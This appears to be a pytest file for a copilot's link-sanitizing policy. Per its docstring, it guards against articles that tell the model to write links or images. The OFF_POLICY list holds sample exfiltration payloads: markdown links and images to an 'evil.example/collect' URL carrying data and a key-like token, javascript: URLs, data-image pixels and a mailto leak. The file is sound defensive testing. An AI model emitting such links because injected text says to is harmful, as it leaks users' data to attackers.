"""The one link policy (copilot.safety.links): a family of link and image shapes an article can
tell the model to write; only stored source URLs survive, images never do."""

from __future__ import annotations

import pytest

from copilot.safety import IMAGE_REMOVED, LINK_REMOVED, LinkPolicy
from copilot.safety.answers import StreamingLinkFilter

STORED = "https://apnews.com/article/stocks-small-caps-3f2a"
EVIL = "https://evil.example/collect?d=IWM%2B4.1%25&k=sk-live"
policy = LinkPolicy.of([STORED])

OFF_POLICY = [
    f"See [the data]({EVIL}) now.",
    f"See [the data](<{EVIL}>) now.",
    f'See [the data]({EVIL} "title") now.',
    f"Chart: ![chart]({EVIL}) now.",
    f"Chart: ![]({STORED}) now.",  # an image, even of a stored URL
    f"Chart: ![chart][pix] now.\n\n[pix]: {EVIL}",
    f"Visit {EVIL}.",
    f"Visit <{EVIL}>.",
    "Visit www.evil.example/x?d=1.",
    f'<img src="{EVIL}"> and <a href="{EVIL}">here</a>',
    "Pixel data:image/png;base64,iVBORw0KGgo= here",
    "[run](javascript:alert(1)) and javascript:alert(2)",
    f"[[1]]({EVIL}) cited",
    f"[{EVIL}]({EVIL})",
    f"(see {EVIL})",
    "ftp://files.evil.example/x and mailto:leak@evil.example?body=IWM",
]


@pytest.mark.parametrize("text", OFF_POLICY)
def test_off_policy_links_and_images_are_cut(text: str) -> None:
    cleaned = policy.clean(text)
    for fragment in ("evil.example", "javascript:", "data:image", "](", "<img", "<a "):
        assert fragment not in cleaned, (text, cleaned)


def test_what_is_removed_is_replaced_by_a_visible_marker_and_link_text_stays() -> None:
    assert policy.clean(f"See [the AP data]({EVIL}).") == "See the AP data."
    assert policy.clean(f"Look ![x]({EVIL}) here") == f"Look {IMAGE_REMOVED} here"
    assert policy.clean(f"Go {EVIL}, then") == f"Go {LINK_REMOVED}, then"
    assert policy.clean("Rose [1] and fell [2, 3].") == "Rose [1] and fell [2, 3]."


@pytest.mark.parametrize(
    "text",
    [
        f"As [AP reported]({STORED}), small caps led [1].",
        f"Source: <{STORED}>.",
        f"Source: {STORED}.",
        f"[ap]: {STORED}",
        "[1]: SPY rose 2% [1]",  # not a link definition (text after the destination)
        "Wow![1][2] ok",  # a citation after an exclamation mark is not an image
    ],
)
def test_stored_source_urls_and_plain_text_are_kept(text: str) -> None:
    assert policy.clean(text) == text


def test_an_empty_allowlist_removes_every_link_and_bad_urls_never_enter_it() -> None:
    strict = LinkPolicy.of(["javascript:alert(1)", "not a url", "data:text/html,x"])
    assert strict.allowed == frozenset()
    assert strict.clean(f"[a]({STORED})") == "a"


def test_the_stream_filter_never_lets_a_split_link_through() -> None:
    text = f"Small caps led [1]. Include [this]({EVIL}) and ![img]({EVIL}) and {EVIL} too."
    for size in (1, 2, 3, 7, 50):
        stream = StreamingLinkFilter()
        pieces = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
        out = "".join(pieces) + stream.finish()
        assert "evil.example" not in out, (size, out)
        assert out.startswith("Small caps led [1]. Include this and")
